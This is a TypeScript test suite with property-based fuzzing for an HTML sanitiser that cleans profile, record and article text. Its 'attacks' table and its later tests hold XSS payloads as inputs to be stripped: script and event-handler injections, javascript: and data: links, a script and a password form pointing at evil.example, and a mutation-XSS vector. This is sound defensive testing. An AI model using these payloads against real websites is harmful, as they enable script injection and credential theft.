import assert from 'node:assert/strict'
import { describe, test } from 'node:test'
import fc from 'fast-check'
import { inertText, plainText, sanitizeArticle, sanitizePortrait, sanitizeText, wordsOf } from './sanitize.ts'

const clean = (markup: string) => sanitizePortrait(markup).toString()

describe('the sanitised portrait of a person', () => {
  test('keeps the markup of a text', () => {
    const kept = [
      '<p>Ein <strong>Satz</strong> mit <em>Betonung</em>,<br />zwei Zeilen.</p>',
      '<ul><li>eins</li><li>zwei</li></ul><ol><li>drei</li></ol>',
      '<blockquote><p>Zitat</p></blockquote>',
      '<table><thead><tr><th scope="col">Tag</th></tr></thead><tbody><tr><td colspan="2">Montag</td></tr></tbody></table>',
    ]
    for (const markup of kept) assert.equal(clean(markup), markup)
  })

  test('has headings below the second level of the page', () => {
    assert.equal(
      clean('<h1>a</h1><h2>b</h2><h3>c</h3><h4>d</h4><h6>e</h6>'),
      '<h3>a</h3><h3>b</h3><h4>c</h4><h5>d</h5><h5>e</h5>',
    )
  })

  test('shows pictures that are stored here, and no others', () => {
    const own = `<img src="/files/${'a'.repeat(32)}" alt="Saal &amp; Bühne" />`
    assert.equal(clean(`<p>${own.replace(' />', ' width="9" onload="x">')}</p>`), `<p>${own}</p>`)
    assert.equal(sanitizeText(own), own)
    assert.equal(
      sanitizeArticle(own, 'https://a.example').toString(),
      own.replace('/files', 'https://a.example/files'),
    )
    assert.equal(sanitizePortrait(own, '/amt').toString(), own.replace('/files', '/amt/files'))
    for (const src of [
      'https://b.example/x.png',
      '//b.example/x.png',
      '/x.png',
      'data:image/png;base64,AA',
      '',
    ])
      assert.equal(clean(`<p>a<img src="${src}" alt="b"></p>`), '<p>a</p>', src)
  })

  test('contains links to pages, mail and telephone only, and vouches for none', () => {
    assert.equal(
      clean('<a href="https://example.org/" target="_blank" rel="opener">x</a>'),
      '<a href="https://example.org/" rel="noopener nofollow">x</a>',
    )
    for (const href of ['http://example.org/', 'mailto:amt@example.org', 'tel:+41580000000', '/agencies/3'])
      assert.match(clean(`<a href="${href}">x</a>`), new RegExp(`href="${href.replaceAll('+', '\\+')}"`))
  })

  const attacks = {
    script: ['<script>alert(1)</script>', ''],
    'script in capitals': ['<SCRIPT SRC=//evil.example/x.js></SCRIPT>', ''],
    'event handler': ['<p onclick="alert(1)" onmouseover=alert(1)>x</p>', '<p>x</p>'],
    'image error': ['<img src=x onerror=alert(1)>', ''],
    'drawing with a handler': ['<svg onload=alert(1)><circle /></svg>', ''],
    'drawing with a script': ['<svg><script>alert(1)</script></svg>', ''],
    'javascript address': ['<a href="javascript:alert(1)">x</a>', '<a rel="noopener nofollow">x</a>'],
    'javascript in disguise': [
      '<a href=" jAvA\tsc\nript&colon;alert(1)">x</a>',
      '<a rel="noopener nofollow">x</a>',
    ],
    'data address': ['<a href="data:text/html,<script>1</script>">x</a>', '<a rel="noopener nofollow">x</a>'],
    'address without scheme': ['<a href="//evil.example/">x</a>', '<a rel="noopener nofollow">x</a>'],
    'style attribute': ['<p style="position:fixed;inset:0">x</p>', '<p>x</p>'],
    'style element': ['<style>body{display:none}</style><p>x</p>', '<p>x</p>'],
    'id and class': ['<p id="main" class="button">x</p>', '<p>x</p>'],
    form: ['<form action="//evil.example"><input name="password"></form>', ''],
    frame: ['<iframe src="https://evil.example/"></iframe>', ''],
    'base and meta': [
      '<base href="//evil.example/"><meta http-equiv="refresh" content="0;url=//evil.example">',
      '',
    ],
    'unclosed tag': ['<p>x<img src=x onerror=alert(1) ', '<p>x</p>'],
    'half a comment': ['<!--<p>x-->y<!-- <script>alert(1)</script>', 'y'],
    'mutation through mathematics': [
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      '<table></table>',
    ],
  } satisfies Record<string, [string, string]>
  for (const [name, [markup, expected]] of Object.entries(attacks))
    test(`loses ${name}`, () => assert.equal(clean(markup), expected))

  test('contains no handler, script or unknown address for any input', () => {
    const pieces = fc.constantFrom(
      ...[
        '<',
        '>',
        '"',
        "'",
        '/',
        '=',
        '&',
        '<!--',
        '-->',
        'script',
        'style',
        'svg',
        'math',
        'p',
        'a',
        'table',
      ],
      ...[
        ' href=',
        'javascript:',
        'onerror=',
        'alert(1)',
        'x',
        ' ',
        '\n',
        '\0',
        'ü',
        '&lt;',
        '&#x6a;',
        'title',
      ],
    )
    fc.assert(
      fc.property(fc.array(pieces, { maxLength: 30 }), (parts) => {
        const result = clean(parts.join(''))
        // Outside of a tag the same characters are only text.
        for (const [tag] of result.matchAll(/<[^>]*>/g)) {
          assert.match(
            tag,
            /^<\/?(p|br|ul|ol|li|strong|em|b|i|h[345]|blockquote|table|caption|thead|tbody|tfoot|tr|th|td)( \/)?>$|^<a( href="[^"]*")?( rel="noopener nofollow")?>$|^<\/a>$/,
          )
          assert.doesNotMatch(tag, /href="\s*(javascript|data):/i)
        }
      }),
      { numRuns: 500 },
    )
  })
})

const pieces = fc.constantFrom(
  ...[
    '<',
    '>',
    '"',
    '/',
    '=',
    '&',
    '<!--',
    '-->',
    '</',
    '<?',
    '<![CDATA[',
    ' href=',
    'javascript:',
    'x',
    ' ',
    '\n',
  ],
  ...[
    '<p>',
    '</p>',
    '<a href="',
    '<a href=/x>',
    '<b>',
    '</b>',
    '<br>',
    '</br>',
    '<h1>',
    '</h1>',
    '<h2>',
    '<svg>',
  ],
  ...[
    '<table>',
    '</table>',
    '<tr>',
    '<td colspan=3>',
    '<ul>',
    '</ul>',
    '<li>',
    '<script>',
    '</script>',
    '<style>',
  ],
  ...[
    '<textarea>',
    '<title>',
    '<noscript>',
    '<select>',
    '<option>',
    '<iframe>',
    '<math>',
    '<xmp>',
    '<plaintext>',
  ],
  ...['&lt;', '&amp;lt;', '&#x6a;', '&#0;', '&#xd800;', '&nbsp;', '&notit', '#tag', 'ü'],
)
const markups = fc.array(pieces, { maxLength: 15 }).map((parts) => parts.join(''))

describe('the sanitised text of a record', () => {
  test('keeps the levels of its headings, unlike on a page', () => {
    const markup = '<h1>a</h1><h2>b</h2><p>c</p><h6>d</h6>'
    assert.equal(sanitizeText(markup), markup)
    assert.equal(clean(markup), '<h3>a</h3><h3>b</h3><p>c</p><h5>d</h5>')
  })

  test('loses scripts, handlers, pictures and frames', () => {
    assert.equal(
      sanitizeText(
        '<p onclick="x()">a<script>x()</script><img src=x onerror=x()><iframe src=//y></iframe></p>',
      ),
      '<p>a</p>',
    )
  })

  test('does not change when it is cleaned again, and a page shows the same words', () => {
    fc.assert(
      fc.property(markups, (markup) => {
        const text = sanitizeText(markup)
        assert.equal(sanitizeText(text), text)
        assert.ok(text.isWellFormed() && !text.includes('\0'))
        assert.equal(wordsOf(clean(text)), wordsOf(text))
      }),
      { numRuns: 1000 },
    )
  })

  for (const [name, markup] of [
    ['open and closing elements that never meet', '<b>'.repeat(170_000) + '</i>'.repeat(100_000)],
    ['tables in tables', '<table><tr><td>'.repeat(60_000)],
    ['paragraphs in lists', '<li><p>'.repeat(100_000)],
    ['brackets', '<'.repeat(500_000)],
    ['blanks before a line', `${' '.repeat(500_000)}<p>x`],
  ] as const)
    test(`takes a bounded time for ${name}`, { timeout: 30_000 }, () => {
      const text = sanitizeText(markup)
      assert.equal(sanitizeText(text), text)
      assert.ok(clean(markup).length <= 4 * markup.length)
      assert.doesNotMatch(plainText(markup), /<[a-z/]/i)
    })
})

describe('a text that is already inert', () => {
  test('is unchanged if nothing has to be removed', () => {
    for (const given of [
      '<p>Rathaus<br>Seewil<br/>6300 Zug&nbsp;1</p>',
      '<p><a href="mailto:a@zg.example">Mail</a></p>',
      'Nur Text',
    ])
      assert.equal(inertText(given), given)
  })

  test('is sanitised otherwise', () => {
    for (const given of [
      '<p>Text<script>alert(1)</script></p>',
      '<p onclick="alert(1)">Text</p>',
      '<p>Text</p><!--><script>alert(1)</script>-->',
      '<a href="javascript:alert(1)" rel="noopener nofollow">Text</a>',
      '<scr rel="noopener nofollow"ipt>alert(1)</script>',
    ]) {
      assert.equal(inertText(given), sanitizeText(given))
      assert.doesNotMatch(inertText(given), /<script|onclick|javascript:/)
    }
  })
})

describe('the words of a markup text', () => {
  test('are what a reader sees: characters for entities, a line for each paragraph, no attributes', () => {
    const text = sanitizeText(
      '<h2>Titel</h2><p>Fünf &amp; f<b>ü</b>nf<br>&lt;b&gt; <a href="/x#y">hier</a></p>',
    )
    assert.equal(wordsOf(text), 'Titel\nFünf & fünf\n<b> hier')
  })
})

describe('a plain text without markup', () => {
  test('is unchanged, including comparisons and ampersands', () => {
    for (const text of ['', ' Fünf < sechs & sieben > vier ', 'a <3', '&lt;b&gt;', 'Zeile\n\n Zeile'])
      assert.equal(plainText(text), text)
  })

  test('loses markup, however it is hidden', () => {
    assert.equal(plainText('<p>Eins</p><p>Z<b>wei</b></p>'), 'Eins\nZwei')
    assert.equal(plainText('a<script>alert(1)</script>b'), 'ab')
    assert.equal(plainText('<b>a</b> &lt;script&gt;alert(1)&lt;/script&gt; b'), 'a  b')
    assert.equal(plainText('a <img src=x onerror=alert(1)'), 'a')
  })

  test('never contains markup, and does not change when it is cleaned again', () => {
    fc.assert(
      fc.property(markups, (markup) => {
        const text = plainText(markup)
        assert.doesNotMatch(text, /<[a-z/!?]/i)
        assert.equal(plainText(text), text)
      }),
      { numRuns: 1000 },
    )
  })
})

describe('the sanitised text of an article', () => {
  test('has its headings below the title of the page without a gap, whichever level the editor chose', () => {
    const headings = (markup: string) => sanitizeArticle(markup).toString()
    assert.equal(headings('<h1>a</h1><h2>b</h2><h4>c</h4>'), '<h2>a</h2><h3>b</h3><h4>c</h4>')
    assert.equal(headings('<H4>a</H4><p>b</p><h5>c</h5>'), '<h2>a</h2><p>b</p><h3>c</h3>')
    assert.equal(headings('<h3>a</h3><h3>b</h3>'), '<h2>a</h2><h2>b</h2>')
  })

  test('is cleaned like a portrait', () => {
    assert.equal(sanitizeArticle('<p onclick="x()">a<script>b</script></p>').toString(), '<p>a</p>')
  })

  test('has completed links to pages of the site, and no other change', () => {
    const completed = (markup: string) => sanitizeArticle(markup, 'https://site.example').toString()
    const link = (href: string) => `<a href="${href}" rel="noopener nofollow">x</a>`
    assert.equal(completed('<a href="/events">x</a>'), link('https://site.example/events'))
    assert.equal(completed('<a href="https://other.example/">x</a>'), link('https://other.example/'))
    for (const href of ['//other.example/', '/\\other.example/'])
      assert.equal(completed(`<a href="${href}">x</a>`), '<a rel="noopener nofollow">x</a>')
    assert.equal(completed('<p>so: href="/events"</p>'), '<p>so: href="/events"</p>')
    assert.equal(sanitizeArticle('<a href="/events">x</a>').toString(), link('/events'))
  })
})
